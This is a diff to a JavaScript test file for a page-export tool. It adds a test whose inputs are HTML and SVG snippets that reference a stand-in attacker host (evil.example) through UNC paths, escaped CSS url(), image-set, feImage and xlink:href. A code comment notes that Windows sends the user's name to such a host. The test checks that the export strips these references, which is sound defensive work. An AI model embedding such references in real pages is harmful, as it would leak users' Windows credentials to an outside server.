@@ -77,6 +77,18 @@ describe('an export has the elements that its pages have, and no others', () => 
   });
 });
 
+// From disk, `//evil.example/a` is a file of that host, which Windows asks with the name of its user.
+test.each([
+  '<table background="//evil.example/a"><tr><td background="\\\\evil.example\\a">text</td></tr></table>',
+  '<svg><rect fill="url(//evil.example/a)"></rect><g mask="url(\'//evil.example/a#b\')"></g></svg>',
+  String.raw`<svg><rect fill="u\72l(//evil.example/a)" stroke="image-set('//evil.example/a' 1x)"></rect></svg>`,
+  '<svg><filter id="a"><feImage href="//evil.example/a"></feImage></filter></svg>',
+  '<svg><pattern xlink:href="//evil.example/a#b"></pattern><linearGradient href="//evil.example/a#b"></linearGradient></svg>',
+  '<svg><text><textPath href="//evil.example/a#b">text</textPath></text><animate attributeName="fill" values="url(//evil.example/a)"></animate></svg>',
+])('an export asks no host for what a page names: %s', (article) => {
+  expect(rewritePage(documentOf(article), PAGE, SITE).html).not.toContain('evil');
+});
+
 test('of scripts, an export runs those that the site has in its documents, and its own', () => {
   const { html } = rewritePage(documentOf('<p>Text</p>'), PAGE, SITE);
   const [policy] = DomUtils.findAll(({ attribs }) => 'http-equiv' in attribs, readHtml(html).children);
